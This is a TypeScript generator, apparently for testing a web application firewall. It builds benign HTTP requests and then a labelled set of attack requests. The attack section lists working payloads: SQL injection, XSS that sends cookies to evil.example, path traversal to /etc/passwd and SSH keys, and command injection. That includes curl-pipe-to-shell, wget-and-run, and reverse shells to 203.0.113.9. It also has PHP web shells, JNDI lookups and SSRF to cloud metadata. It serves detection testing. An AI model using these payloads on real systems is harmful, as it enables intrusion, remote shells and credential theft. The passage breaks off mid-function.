    ['POST', '/api/v2/chat/messages', { channel: 'dev', text: 'the cron job runs `python manage.py clearsessions` every night at 03:00, is that still needed?' }],
    ['POST', '/api/v2/chat/messages', { channel: 'dev', text: "I think the issue is in the WHERE clause: we filter on created_at but the index is on updated_at. Let's add one." }],
    ['POST', '/api/v2/chat/messages', { channel: 'random', text: 'Lunch at 12:30? 🍕 or 🍣 — vote with emoji 👍' }],
    ['POST', '/api/v2/surveys/7/answers', { answers: { q1: 'Very satisfied', q2: ['price', 'quality'], q3: 'Nothing to add, keep it up!', q4: 9 } }],
    ['POST', '/api/v2/addresses/validate', { line1: '1600 Amphitheatre Pkwy', city: 'Mountain View', region: 'CA', postcode: '94043', country: 'US' }],
    ['POST', '/api/v2/logs', { level: 'warn', message: 'Retrying request to /api/v2/orders after 503 (attempt 2 of 5)', context: { requestId: '4f1c2e7a-1b9d-4c8e-9f0a-6d5b3c2a1e0f', durationMs: 1520 } }],
    ['POST', '/api/v2/logs', { level: 'error', message: "TypeError: Cannot read properties of undefined (reading 'price')", stack: 'at CartLine (webpack:///./src/cart/Line.tsx:42:17)\n    at renderWithHooks (react-dom.production.min.js:1:2000)', url: 'https://www.shop.example/cart' }],
    ['POST', '/api/v2/csp-reports', { 'csp-report': { 'document-uri': 'https://www.shop.example/checkout', 'violated-directive': 'script-src-elem', 'blocked-uri': 'https://cdn.tracker.example/t.js', 'line-number': 1 } }],
    ['POST', '/api/v2/import/preview', { csv: 'sku,name,price\nSKU-1,"Mug, white",9.90\nSKU-2,"Lamp ""Luna""",49.00\n', delimiter: ',', header: true }],
    ['POST', '/api/v2/ai/complete', { prompt: 'Write a friendly product description for a waterproof hiking boot. Mention the Vibram sole and the 2-year warranty.', maxTokens: 200, temperature: 0.7 }],
    ['POST', '/api/v2/settings/integrations', { slack: { webhook: 'https://hooks.slack.example/services/T000/B000/XXXX', channel: '#orders' }, enabled: true }],
    ['POST', '/api/v2/numbers', { values: [0, -1, 3.14159, 1e21, 2.5e-8, 100.0], flags: [true, false, null] }],
    ['POST', '/api/v2/tree', { a: { b: { c: { d: { e: { f: { g: 'deep value' } } } } } }, list: [[1, 2], [3, [4, [5]]]], empty: {}, none: [] }],
    ['POST', '/api/v2/unicode', { text: 'Ünïcödé: \u00e9\u00e8\u00ea, 中文, العربية, עברית, emoji 😀, escaped \\n and a quote "' }],
    ['PUT', '/api/v2/users/me/avatar-crop', { x: 12, y: 40, width: 256, height: 256, rotate: -90 }],
  ];
  for (let i = 0; i < misc.length; i++) add('benign-json', misc[i][0], misc[i][1], json(p, (['spa', 'mobile', 'sdk', 'server'] as const)[i % 4]), misc[i][2]);
  // JSON written by hand or by other serializers: spacing, escapes, a trailing newline
  add('benign-json', 'POST', '/api/v2/feedback', json(p, 'curl'), '{\n  "message": "Sent from curl -- works great",\n  "rating": 5\n}\n');
  add('benign-json', 'POST', '/api/v2/feedback', json(p, 'sdk'), '{"message":"Caf\\u00e9 \\u201cLuna\\u201d is open","path":"C:\\\\Users\\\\jane\\\\Desktop"}');
  add('benign-json', 'POST', '/api/v2/feedback', json(p, 'sdk'), '{"url":"https:\\/\\/www.shop.example\\/p\\/123","ok":true}');
  return out;
}

function benignForms(p: Picker): DiffRecord[] {
  const out: DiffRecord[] = [];
  const add = (uri: string, params: Array<[string, string]>, headers: Record<string, string> = form(p)) => out.push({ id: '', category: 'benign-form', expect: 'benign', method: 'POST', uri, headers, body: formEncode(params) });
  add('/login', [['username', 'jane.doe'], ['password', 'hunter2-but-longer!'], ['remember_me', 'on'], ['next', '/account']]);
  add('/login', [['email', "liam.o'brien@example.org"], ['password', 'S3cure&Simple=Pass']]);
  add('/signup', [['name', 'Zoë Saldaña'], ['email', 'zoe_s@mail.example.net'], ['password', 'Tr0ub4dor&3'], ['password_confirm', 'Tr0ub4dor&3'], ['terms', '1']]);
  add('/contact', [['name', 'Ana María López'], ['email', 'ana.lopez@example.mx'], ['subject', 'Wholesale inquiry'], ['message', "Hello,\r\nwe'd like to order 200 units for our stores in Mexico City and Guadalajara. Could you send a quote, including shipping?\r\n\r\nThanks,\r\nAna"]]);
  add('/contact', [['name', 'Ravi Shankar'], ['email', 'ravi@example.in'], ['message', 'Please select a delivery slot for me; any time from 9 to 5 works, where "5" means 17:00.']]);
  add('/search', [['q', "women's running shoes size 8"], ['sort', 'price_asc'], ['in_stock', '1']]);
  add('/search', [['q', 'union made work boots'], ['brand', 'Red Wing'], ['brand', 'Danner']]);
  add('/checkout/address', [['first_name', 'Björn'], ['last_name', 'Ålund'], ['street', 'Drottninggatan 12'], ['zip', '111 51'], ['city', 'Stockholm'], ['country', 'SE'], ['phone', '+46 8 123 456 78']]);
  add('/checkout/address', [['first_name', 'Jean-Luc'], ['last_name', 'Picard'], ['street', '12, rue de l\'Église'], ['zip', '75001'], ['city', 'Paris'], ['notes', 'Code porte: 4521B, 3e étage (à gauche)']]);
  add('/checkout/payment', [['method', 'card'], ['cardholder', 'JANE DOE'], ['token', `tok_${p.b64url(24)}`], ['save_card', 'false']]);
  add('/newsletter/subscribe', [['email', 'chen.wei@example.cn'], ['topics[]', 'sales'], ['topics[]', 'new-arrivals'], ['source', 'footer']]);
  add('/account/settings', [['display_name', 'Fatima Al-Sayed'], ['bio', 'Product designer. I like drop caps, union types and a good exec summary.'], ['website', 'https://fatima.example.ae/portfolio?lang=en'], ['_method', 'PUT'], ['csrf', p.hex(40)]]);
  add('/reviews/new', [['product_id', '10482'], ['rating', '4'], ['title', 'Solid, but runs small'], ['body', 'Order one size up. Where the toe box meets the laces it is a bit tight.']]);
  add('/comments', [['post', '2024-summer-sale'], ['author', 'Kim'], ['comment', 'Is the 20% discount applied before or after tax? (asking for a friend ;-) )']]);
  add('/feedback', [['page', '/p/10482'], ['helpful', 'yes'], ['comment', "Didn't know about the size chart -- thanks for adding it!"]]);
  add('/api/oauth/token', [['grant_type', 'authorization_code'], ['code', p.b64url(43)], ['redirect_uri', 'https://www.shop.example/auth/callback'], ['client_id', p.hex(24)], ['code_verifier', p.b64url(64)]], { ...profile(p, 'sdk'), 'Content-Type': 'application/x-www-form-urlencoded' });
  add('/api/oauth/token', [['grant_type', 'client_credentials'], ['scope', 'read:orders write:orders']], { ...profile(p, 'server'), Authorization: `Basic ${Buffer.from('client-123:secret-456').toString('base64')}`, 'Content-Type': 'application/x-www-form-urlencoded' });
  add('/webhooks/twilio', [['MessageSid', `SM${p.hex(32)}`], ['From', '+15550100123'], ['To', '+15550100999'], ['Body', 'STOP'], ['NumMedia', '0']], { ...profile(p, 'server'), 'Content-Type': 'application/x-www-form-urlencoded; charset=utf-8' });
  add('/webhooks/twilio', [['From', '+15550100123'], ['Body', "Where's my order? It said delivered but I can't find it."]], { ...profile(p, 'server'), 'Content-Type': 'application/x-www-form-urlencoded' });
  add('/cart/update', [['items[0][sku]', 'SKU-7F3A'], ['items[0][qty]', '2'], ['items[1][sku]', 'SKU-19BC'], ['items[1][qty]', '0'], ['coupon', '']]);
  add('/support/ticket', [['category', 'billing'], ['description', 'I was charged twice for order #10482 (see attached statement). Please refund one of the charges.'], ['order', '10482']]);
  add('/support/ticket', [['category', 'technical'], ['description', 'After the update the app shows an alert "Session expired" every time I open it, even right after logging in.']]);
  add('/profile/address', [['line1', '221B Baker Street'], ['line2', ''], ['city', 'London'], ['postcode', 'NW1 6XE']]);
  add('/events/rsvp', [['event', 'launch-party'], ['guests', '2'], ['diet', 'vegetarian; no nuts'], ['note', 'We\'ll arrive around 7:30 pm']]);
  add('/jobs/apply', [['name', 'Nguyễn Văn An'], ['email', 'an.nguyen@example.vn'], ['position', 'Backend engineer'], ['cover', 'I have 6 years of experience with PostgreSQL (query tuning, partitioning, logical replication) and Go. I enjoy writing migrations that can be rolled back.']]);
  add('/polls/12/vote', [['choice', '3']]);
  add('/unsubscribe', [['token', p.b64url(48)], ['reason', 'too many emails']]);
  add('/settings/notifications', [['email', 'on'], ['sms', 'off'], ['digest', 'weekly'], ['quiet_hours', '22:00-07:00']]);
  // semicolon-free, raw-typed bodies as some clients send them
  out.push({ id: '', category: 'benign-form', expect: 'benign', method: 'POST', uri: '/track', headers: { ...profile(p, 'mobile'), 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'event=app_open&ts=1719830000&device=iPhone15%2C3&os=17.4.1&first=true' });
  out.push({ id: '', category: 'benign-form', expect: 'benign', method: 'POST', uri: '/search', headers: form(p), body: 'q=caf%C3%A9+au+lait&lang=fr' });
  return out;
}

function multipart(boundary: string, parts: Array<{ name: string; filename?: string; type?: string; data: string }>): string {
  let s = '';
  for (const part of parts) {
    s += `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"${part.filename !== undefined ? `; filename="${part.filename}"` : ''}\r\n`;
    if (part.type) s += `Content-Type: ${part.type}\r\n`;
    s += `\r\n${part.data}\r\n`;
  }
  return s + `--${boundary}--\r\n`;
}

function benignMultipart(p: Picker): DiffRecord[] {
  const out: DiffRecord[] = [];
  const add = (uri: string, parts: Parameters<typeof multipart>[1], kind: 'browser' | 'spa' | 'mobile' | 'sdk' | 'curl', style: number) => {
    // the boundaries browsers, curl and okhttp generate
    const boundary = style === 0 ? `----WebKitFormBoundary${p.b64url(16).replace(/[-_]/g, 'x')}` : style === 1 ? `------------------------${p.hex(16)}` : p.uuid();
    const headers = { ...profile(p, kind), 'Content-Type': `multipart/form-data; boundary=${boundary}` };
    out.push({ id: '', category: 'benign-multipart', expect: 'benign', method: 'POST', uri, headers, body: multipart(boundary, parts) });
  };
  add('/api/v2/uploads', [{ name: 'file', filename: 'notes.txt', type: 'text/plain', data: 'Shopping list:\n- milk\n- eggs\n- bread\nDrop by the bakery on the way back.\n' }], 'browser', 0);
  add('/api/v2/uploads', [{ name: 'file', filename: 'orders-2024-06.csv', type: 'text/csv', data: 'id,date,customer,total\n10482,2024-06-01,"Doe, Jane",49.99\n10483,2024-06-01,"O\'Brien, Liam",12.50\n10484,2024-06-02,"López, Ana María",120.00\n' }, { name: 'delimiter', data: ',' }], 'spa', 1);
  add('/api/v2/uploads', [{ name: 'file', filename: 'config.json', type: 'application/json', data: '{"theme":"dark","pageSize":50,"features":["search","wishlist"]}' }], 'sdk', 2);
  add('/api/v2/uploads', [{ name: 'file', filename: 'README.md', type: 'text/markdown', data: MARKDOWN[1] }], 'curl', 1);
  add('/api/v2/uploads', [{ name: 'file', filename: 'photo (1).jpg', type: 'image/jpeg', data: 'JFIF-not-really-an-image-but-text-content-for-the-test' }, { name: 'caption', data: 'Sunset over the lake, June 2024' }], 'mobile', 2);
  add('/api/v2/products/10482/images', [{ name: 'image', filename: 'IMG_2024-06-14_18-22-05.heic', type: 'image/heic', data: 'ftypheic-mock-bytes' }, { name: 'alt', data: 'Trail Runner 3, side view' }, { name: 'position', data: '2' }], 'spa', 0);
  add('/support/ticket', [{ name: 'subject', data: 'Damaged item' }, { name: 'description', data: "The box arrived crushed and the mug inside is chipped. I've attached a photo. Could you send a replacement?" }, { name: 'attachment', filename: 'box.png', type: 'image/png', data: 'PNG-mock' }], 'browser', 0);
  add('/jobs/apply', [{ name: 'name', data: 'Chen Wei' }, { name: 'email', data: 'chen.wei@example.cn' }, { name: 'cv', filename: 'Chen_Wei_CV_2024.pdf', type: 'application/pdf', data: '%PDF-1.7 mock content' }, { name: 'cover', data: 'I would love to join the platform team. I have run PostgreSQL and Kafka in production for 5 years.' }], 'browser', 0);
  add('/api/v2/imports', [{ name: 'file', filename: 'products.tsv', type: 'text/tab-separated-values', data: 'sku\tname\tprice\nSKU-1\tMug, white\t9.90\nSKU-2\tLamp "Luna"\t49.00\n' }, { name: 'dry_run', data: 'true' }], 'sdk', 2);
  add('/api/v2/uploads', [{ name: 'file', filename: 'snippet.py', type: 'text/x-python', data: 'def total(items):\n    """Sum of price * qty, rounded to cents."""\n    return round(sum(i.price * i.qty for i in items), 2)\n' }], 'spa', 1);
  add('/api/v2/uploads', [{ name: 'file', filename: 'query.sql', type: 'application/sql', data: '-- monthly revenue\nSELECT date_trunc(\'month\', created_at) AS month, sum(total) FROM orders GROUP BY 1 ORDER BY 1;\n' }], 'sdk', 2);
  add('/api/v2/avatars', [{ name: 'avatar', filename: 'me.webp', type: 'image/webp', data: 'RIFF-mock-WEBP' }], 'mobile', 2);
  add('/forms/contact', [{ name: 'name', data: 'Jean-Luc Picard' }, { name: 'email', data: 'jl.picard@starfleet.example' }, { name: 'message', data: 'Tea, Earl Grey, hot. Please restock -- the "select blend" has been sold out for weeks.' }], 'browser', 0);
  add('/api/v2/documents', [{ name: 'metadata', type: 'application/json', data: '{"title":"Q2 report","tags":["finance","2024"],"confidential":true}' }, { name: 'file', filename: 'Q2 report.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', data: 'PK-mock-docx' }], 'sdk', 2);
  add('/api/v2/uploads', [{ name: 'file', filename: 'empty.txt', type: 'text/plain', data: '' }], 'curl', 1);
  add('/api/v2/uploads', [{ name: 'files[]', filename: 'a.txt', type: 'text/plain', data: 'first file' }, { name: 'files[]', filename: 'b.txt', type: 'text/plain', data: 'second file' }], 'spa', 0);
  // a small binary file: a real PNG header and bytes above 0x7f
  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89]), Buffer.from('IDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84', 'latin1')]);
  const boundary = `----WebKitFormBoundary${p.b64url(16).replace(/[-_]/g, 'x')}`;
  const bin = Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="pixel.png"\r\nContent-Type: image/png\r\n\r\n`), png, Buffer.from(`\r\n--${boundary}--\r\n`)]);
  out.push({ id: '', category: 'benign-multipart', expect: 'benign', method: 'POST', uri: '/api/v2/uploads', headers: { ...profile(p, 'browser'), 'Content-Type': `multipart/form-data; boundary=${boundary}` }, body: '', body_b64: bin.toString('base64') });
  return out;
}

function benignOther(p: Picker): DiffRecord[] {
  const out: DiffRecord[] = [];
  // a chunked JSON body (what a streaming client sends when it does not know the length)
  const body = JSON.stringify({ message: 'streamed from a generator; where the length is unknown', parts: [1, 2, 3] });
  const chunked = `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'POST', uri: '/api/v2/feedback', headers: { ...profile(p, 'sdk'), 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' }, body: chunked, autocomplete: false });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'POST', uri: '/api/v2/notes/plain', headers: { ...profile(p, 'curl'), 'Content-Type': 'text/plain' }, body: 'Remember: select the blue one, not the union jack print.' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'POST', uri: '/api/v2/soap', headers: { ...profile(p, 'server'), 'Content-Type': 'text/xml; charset=utf-8', SOAPAction: '"urn:GetOrder"' }, body: '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><id>10482</id><note>Select &amp; ship</note></GetOrder></soap:Body></soap:Envelope>' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'POST', uri: '/api/v2/feeds', headers: { ...profile(p, 'server'), 'Content-Type': 'application/xml' }, body: '<feed><entry id="1"><title>Summer sale: drop prices by 20%</title><link href="https://www.shop.example/sale"/></entry></feed>' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'POST', uri: '/api/v2/events/beacon', headers: { ...profile(p, 'browser'), 'Content-Type': 'application/json' }, body: '' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'PUT', uri: `/api/v2/files/${p.uuid()}`, headers: { ...profile(p, 'sdk'), 'Content-Type': 'application/octet-stream' }, body: '', body_b64: Buffer.from('\x00\x01\x02binary payload \xff\xfe', 'latin1').toString('base64') });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'GET', uri: '/api/v2/me', headers: { ...profile(p, 'sdk'), Authorization: `Bearer ${jwt(p)}`, 'X-Api-Key': p.b64url(40), 'X-Correlation-Id': p.uuid(), 'X-Amzn-Trace-Id': `Root=1-${p.hex(8)}-${p.hex(24)}`, traceparent: `00-${p.hex(32)}-${p.hex(16)}-01` }, body: '' });
  out.push({ id: '', category: 'benign-other', expect: 'benign', method: 'GET', uri: '/api/v2/me', headers: { ...profile(p, 'spa'), 'If-None-Match': '"abc", W/"def"', 'Accept-Charset': 'utf-8, iso-8859-1;q=0.5' }, body: '' });
  return out;
}

/** What real clients send that a body parser may read differently: odd but legitimate bytes. */
function benignEdges(p: Picker): DiffRecord[] {
  const out: DiffRecord[] = [];
  const add = (method: string, uri: string, headers: Record<string, string>, body: string) => out.push({ id: '', category: 'benign-edge', expect: 'benign', method, uri, headers, body });
  // Python's json.dumps writes NaN and Infinity for floats unless told not to
  add('POST', '/api/v2/metrics', json(p, 'sdk'), '{"sensor": "t-12", "value": NaN, "max": Infinity, "unit": "C"}');
  // a hand-written JSON body with a trailing comma (curl users do this)
  add('POST', '/api/v2/feedback', json(p, 'curl'), '{\n  "message": "works now, thanks",\n  "rating": 5,\n}');
  // the same key twice (a form serializer that does not merge)
  add('POST', '/api/v2/search', json(p, 'spa'), '{"tag": "shoes", "tag": "running", "page": 1}');
  // numbers and escapes as serializers write them
  add('POST', '/api/v2/numbers', json(p, 'sdk'), '{"big": 12345678901234567890, "exp": 6.02e23, "neg": -0.0, "esc": "tab\\there \\u00e9\\u4e2d \\ud83d\\ude00", "slash": "a\\/b"}');
  // non-ASCII text: Latin-1 range characters (UTF-8 C2/C3 xx), CJK, emoji, in a query and in JSON
  add('GET', `/api/v2/products/search?q=${encodeURIComponent('caf\u00e9 cr\u00e8me br\u00fbl\u00e9e \u00a9 \u00bd price \u00a3 20')}`, profile(p, 'browser'), '');
  add('POST', '/api/v2/chat/messages', json(p, 'mobile'), JSON.stringify({ text: 'Gr\u00fc\u00dfe aus M\u00fcnchen \u{1F37A}\u{1F3C0} \u2014 \u00a1Hola! \u00bfQu\u00e9 tal? \u4f60\u597d \u{1F3CA}\u{1F3CB}\u{1F3C3}' }));
  // okhttp and Java clients label text parts with a charset
  const b = p.uuid();
  add('POST', '/api/v2/uploads', { ...profile(p, 'mobile'), 'Content-Type': `multipart/form-data; boundary=${b}` },
    `--${b}\r\nContent-Disposition: form-data; name="caption"\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nBeach day\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="beach.jpg"\r\nContent-Type: image/jpeg\r\n\r\nJFIF-mock\r\n--${b}--\r\n`);
  return out;
}

// ---------------------------------------------------------------- attacks
// Written for this corpus: the usual shapes of each attack class, in the places APIs carry them.
const SQLI = [
  "1' OR '1'='1", "x' OR 1=1-- -", "1 OR 1=1", "admin'--", "' OR ''='", "1) OR (1=1", "10482' AND 1=1 AND 'a'='a",
  "0 UNION SELECT username, password FROM users--", "-1' UNION ALL SELECT NULL,NULL,version()-- -", "1 UNION SELECT 1,table_name,3 FROM information_schema.tables",
  "1' AND SLEEP(5)-- -", "1; WAITFOR DELAY '0:0:5'--", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", "1 AND pg_sleep(5)",
  "1'; DROP TABLE orders;--", "1; INSERT INTO users (email,role) VALUES ('evil@example.com','admin')--", "1'; EXEC xp_cmdshell('whoami')--",
  "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users#", "1'/*!50000UNION*//*!50000SELECT*/1,2-- -", "1' UnIoN sElEcT 1,2,3-- -",
  "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -", "1' AND 1=CONVERT(int,(SELECT @@version))--", "' HAVING 1=1--", "1' ORDER BY 10-- -",
  "price desc; SELECT pg_read_file('/etc/passwd')", "name' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
];

const XSS = [
  '<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=fetch("//evil.example/"+document.cookie)>',
  '"><script src=https://evil.example/x.js></script>', "javascript:alert('x')", '<a href="javascript:void(fetch(`//evil.example?c=${document.cookie}`))">win a prize</a>',
  '<body onload=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '<details open ontoggle=alert(1)>', '"onmouseover="alert(1)',
  "'-alert(1)-'", '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<input autofocus onfocus=alert(1)>', '<div style="background:url(javascript:alert(1))">', '{{constructor.constructor("alert(1)")()}}',
  '<scr<script>ipt>alert(1)</scr</script>ipt>', '<video><source onerror="alert(1)">',
];

const LFI = [
  '../../../../etc/passwd', '..%2f..%2f..%2f..%2fetc%2fshadow', '....//....//....//etc/passwd', '/etc/passwd', '..\\..\\..\\windows\\win.ini',
  '../../../../proc/self/environ', 'php://filter/convert.base64-encode/resource=index.php', 'file:///etc/hosts', '../../../../var/log/nginx/access.log',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%252f..%252f..%252fetc%252fpasswd', '/proc/self/cmdline', '../../.env', '../../../../root/.ssh/id_rsa',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
];

const RCE = [
  '; cat /etc/passwd', '| id', '`whoami`', '$(curl -s http://evil.example/x.sh | sh)', '127.0.0.1; ls -la /', '&& wget http://evil.example/bot -O /tmp/b; chmod +x /tmp/b; /tmp/b',
  '; nc -e /bin/sh 203.0.113.9 4444', "|| bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "; python3 -c 'import os;os.system(\"id\")'", '$(id)',
  "; echo c2ggLWkgPiYgL2Rldi90Y3AvMS4yLjMuNC84MCAwPiYx | base64 -d | sh", '& ping -n 10 127.0.0.1 &', '| powershell -enc SQBFAFgA', '; /bin/bash -c "id"',
  '%0Aid', ";${IFS}cat${IFS}/etc/passwd", '; curl http://evil.example/$(whoami)', 'a;uname -a',
];

const PHP = [
  '<?php system($_GET["c"]); ?>', '<?= shell_exec("id") ?>', 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}', 'phpinfo()', 'system("id")',
  'file_put_contents("shell.php", base64_decode($_POST["x"]))', 'expect://id', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==',
];

const JAVA = [
  '${jndi:ldap://evil.example:1389/a}', '${${lower:j}ndi:${lower:l}dap://evil.example/x}', '${jndi:dns://evil.example/probe}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/o}',
  '%{(#_memberAccess["allowStaticMethodAccess"]=true)(@java.lang.Runtime@getRuntime().exec("id"))}', 'java.lang.Runtime.getRuntime().exec("id")',
  '#{T(java.lang.Runtime).getRuntime().exec("id")}', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
];

const SSRF = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://127.0.0.1:6379/', 'http://[::1]:8080/admin', 'gopher://127.0.0.1:6379/_FLUSHALL', 'http://0x7f000001/', 'file:///etc/passwd',
  'http://2130706433/', 'dict://127.0.0.1:11211/stats', 'http://localhost:2375/containers/json',
];

function attacks(p: Picker): DiffRecord[] {
  const out: DiffRecord[] = [];
  const add = (category: string, method: string, uri: string, headers: Record<string, string>, body = '') => out.push({ id: '', category, expect: 'attack', method, uri, headers, body });
  const kinds = ['browser', 'spa', 'curl', 'mobile', 'sdk'] as const;
  const where = (category: string, payload: string, i: number) => {
    switch (i % 6) {
      case 0: add(category, 'GET', `/api/v2/products?id=${encodeURIComponent(payload)}`, profile(p, kinds[i % 5])); break;
      case 1: add(category, 'GET', `/api/v2/search?q=${formEncode([['q', payload]]).slice(2)}&page=1`, profile(p, kinds[i % 5])); break;
      case 2: add(category, 'POST', '/api/v2/orders/lookup', json(p, 'spa'), JSON.stringify({ orderId: payload, email: 'jane.doe@example.com' })); break;
      case 3: add(category, 'POST', '/login', form(p), formEncode([['username', payload], ['password', 'x']])); break;
      case 4: add(category, 'PATCH', `/api/v2/users/me`, json(p, 'mobile'), JSON.stringify({ profile: { nickname: payload, tags: ['a', payload] } })); break;
      case 5: add(category, 'POST', '/api/v2/comments', { ...profile(p, 'browser'), 'Content-Type': 'application/x-www-form-urlencoded' }, `post=42&comment=${encodeURIComponent(payload)}`); break;
    }
  };
  SQLI.forEach((s, i) => where('sqli', s, i));
  // SQL injection in a cookie, in a header the CRS inspects, in a JSON key and in a multipart field
  add('sqli', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Cookie: `sid=${p.b64url(32)}; lang=en' UNION SELECT password FROM users-- -` });
  add('sqli', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Cookie: `sid=${p.b64url(32)}; cart_id=1%27%20OR%20%271%27%3D%271` });
  add('sqli', 'GET', '/api/v2/me', { ...profile(p, 'curl'), 'User-Agent': "Mozilla/5.0' AND SLEEP(5) AND '1'='1" });
  add('sqli', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Referer: "https://www.shop.example/?id=1' UNION SELECT 1,2,3-- -" });
  add('sqli', 'POST', '/api/v2/search', json(p, 'sdk'), JSON.stringify({ "name' OR 1=1-- -": 'x' }));
  add('sqli', 'POST', '/api/v2/search', json(p, 'sdk'), JSON.stringify({ filters: [{ field: 'price', op: '<', value: '1 UNION SELECT card_number FROM payments' }] }));
  add('sqli', 'GET', `/api/v2/products?sort=${encodeURIComponent('(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)=\'a\' THEN price ELSE name END)')}`, profile(p, 'spa'));
  add('sqli', 'GET', `/api/v2/products?id=1%2527%2520OR%25201%253D1--`, profile(p, 'curl'));
  add('sqli', 'GET', `/api/v2/products/1'%20or%20'1'='1`, profile(p, 'curl'));
  { const b = `------------------------${p.hex(16)}`; add('sqli', 'POST', '/api/v2/imports', { ...profile(p, 'sdk'), 'Content-Type': `multipart/form-data; boundary=${b}` }, multipart(b, [{ name: 'sheet', data: "Q2'; DROP TABLE products; --" }, { name: 'file', filename: 'a.csv', type: 'text/csv', data: 'a,b\n1,2\n' }])); }

  XSS.forEach((s, i) => where('xss', s, i + 1));
  add('xss', 'GET', `/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E`, profile(p, 'browser'));
  add('xss', 'GET', `/search?q=%3Csvg%20onload%3Dalert%281%29%3E`, profile(p, 'browser'));
  add('xss', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Referer: 'https://www.shop.example/"><script>alert(1)</script>' });
  add('xss', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Cookie: `sid=${p.b64url(32)}; greeting=<img src=x onerror=alert(1)>` });
  add('xss', 'POST', '/api/v2/projects/42/issues', json(p, 'spa'), JSON.stringify({ title: 'Bug', body: 'See \u003cscript\u003ealert(1)\u003c/script\u003e' }).replace(/</g, '\\u003c').replace(/>/g, '\\u003e'));
  add('xss', 'GET', `/redirect?to=${encodeURIComponent('javascript:alert(document.domain)')}`, profile(p, 'browser'));
  add('xss', 'GET', `/redirect?to=${encodeURIComponent('data:text/html,<script>alert(1)</script>')}`, profile(p, 'browser'));
  { const b = `----WebKitFormBoundary${p.b64url(16).replace(/[-_]/g, 'x')}`; add('xss', 'POST', '/api/v2/uploads', { ...profile(p, 'browser'), 'Content-Type': `multipart/form-data; boundary=${b}` }, multipart(b, [{ name: 'caption', data: '<img src=1 onerror=alert(document.cookie)>' }, { name: 'file', filename: 'x.txt', type: 'text/plain', data: 'hello' }])); }

  LFI.forEach((s, i) => {
    if (i % 3 === 0) add('lfi', 'GET', `/api/v2/files?path=${s.includes('%') ? s : encodeURIComponent(s)}`, profile(p, kinds[i % 5]));
    else if (i % 3 === 1) add('lfi', 'GET', `/download?file=${s.includes('%') ? s : s.replace(/\\/g, '%5C')}`, profile(p, kinds[i % 5]));
    else add('lfi', 'POST', '/api/v2/reports/render', json(p, 'sdk'), JSON.stringify({ template: s, format: 'pdf' }));
  });
  add('lfi', 'GET', '/static/..%2f..%2f..%2fetc%2fpasswd', profile(p, 'curl'));
  add('lfi', 'GET', '/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd', profile(p, 'curl'));
  add('lfi', 'GET', '/api/v2/.git/config', profile(p, 'curl'));
  add('lfi', 'GET', '/.env', profile(p, 'curl'));
  add('lfi', 'GET', '/backup/db.sql.bak', profile(p, 'curl'));
  add('lfi', 'GET', '/wp-config.php~', profile(p, 'curl'));
  add('lfi', 'GET', '/api/v2/me', { ...profile(p, 'browser'), Cookie: `sid=${p.b64url(32)}; template=../../../../etc/passwd` });
  { const b = `------------------------${p.hex(16)}`; add('lfi', 'POST', '/api/v2/uploads', { ...profile(p, 'curl'), 'Content-Type': `multipart/form-data; boundary=${b}` }, multipart(b, [{ name: 'file', filename: '../../../../var/www/html/shell.php', type: 'text/plain', data: 'hello' }])); }

  RCE.forEach((s, i) => {
    switch (i % 4) {
      case 0: add('rce', 'GET', `/api/v2/tools/ping?host=${encodeURIComponent(`8.8.8.8${s}`)}`, profile(p, kinds[i % 5])); break;
      case 1: add('rce', 'POST', '/api/v2/tools/convert', json(p, 'sdk'), JSON.stringify({ input: `report.pdf${s}`, to: 'png' })); break;
